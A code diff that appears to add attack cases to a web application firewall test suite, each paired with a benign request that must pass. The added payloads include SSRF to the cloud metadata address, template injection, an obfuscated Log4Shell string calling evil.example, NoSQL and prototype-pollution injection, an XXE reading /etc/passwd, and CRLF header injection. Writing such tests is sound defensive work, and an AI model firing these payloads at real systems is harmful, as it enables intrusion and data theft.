@@ -108,6 +108,46 @@ describe('waf stage: attacks blocked, legitimate requests pass', () => {
       attack: () => request(gw.url + '/api/search', { method: 'POST', headers: json, body: JSON.stringify({ "name' OR '1'='1": 1 }) }),
       legit: () => request(gw.url + '/api/search', { method: 'POST', headers: json, body: JSON.stringify({ 'first name': 'Ann' }) }),
     },
+    {
+      name: 'SSRF to the cloud metadata address in a JSON value',
+      attack: () => request(gw.url + '/api/webhooks', { method: 'POST', headers: json, body: JSON.stringify({ url: 'http://169.254.169.254/latest/meta-data/iam/' }) }),
+      legit: () => request(gw.url + '/api/webhooks', { method: 'POST', headers: json, body: JSON.stringify({ url: 'https://hooks.example.com/in/42' }) }),
+    },
+    {
+      name: 'template injection in a form field',
+      attack: () => request(gw.url + '/api/greeting', { method: 'POST', headers: form, body: 'name=' + encodeURIComponent("{{ ''.__class__.__mro__[1].__subclasses__() }}") }),
+      legit: () => request(gw.url + '/api/greeting', { method: 'POST', headers: form, body: 'name=' + encodeURIComponent('Hello {{name}}!') }),
+    },
+    {
+      name: 'Log4Shell in the Authorization header (obfuscated)',
+      attack: () => request(gw.url + '/api/me', { headers: { authorization: 'Bearer ${${lower:j}ndi:${lower:l}dap://evil.example/a}' } }),
+      legit: () => request(gw.url + '/api/me', { headers: { authorization: 'Bearer eyJhbGciOiJFZERTQSJ9.eyJzdWIiOiIxIn0.c2ln' } }),
+    },
+    {
+      name: 'NoSQL operator in a query parameter name',
+      attack: () => request(gw.url + '/api/login?username=admin&password%5B%24ne%5D=x'),
+      legit: () => request(gw.url + '/api/login?username=admin&price=%2450'),
+    },
+    {
+      name: 'prototype pollution in a JSON key',
+      attack: () => request(gw.url + '/api/settings', { method: 'POST', headers: json, body: '{"__proto__": {"isAdmin": true}}' }),
+      legit: () => request(gw.url + '/api/settings', { method: 'POST', headers: json, body: '{"constructor": "Acme Builders", "prototype": "v2"}' }),
+    },
+    {
+      name: 'XXE in an XML body',
+      attack: () => request(gw.url + '/api/feed', { method: 'POST', headers: { 'content-type': 'application/xml' }, body: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>' }),
+      legit: () => request(gw.url + '/api/feed', { method: 'POST', headers: { 'content-type': 'application/xml' }, body: '<?xml version="1.0"?><r>plain</r>' }),
+    },
+    {
+      name: 'CRLF injection in a query value',
+      attack: () => request(gw.url + '/api/redirect?next=%2Fhome%0D%0ASet-Cookie%3A%20session%3Devil'),
+      legit: () => request(gw.url + '/api/redirect?next=%2Fhome%3Ftab%3D2'),
+    },
+    {
+      name: 'an attack tool announcing itself',
+      attack: () => request(gw.url + '/api/items', { headers: { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' } }),
+      legit: () => request(gw.url + '/api/items', { headers: { 'user-agent': 'python-requests/2.31.0' } }),
+    },
   ]
 
   for (const c of cases) {
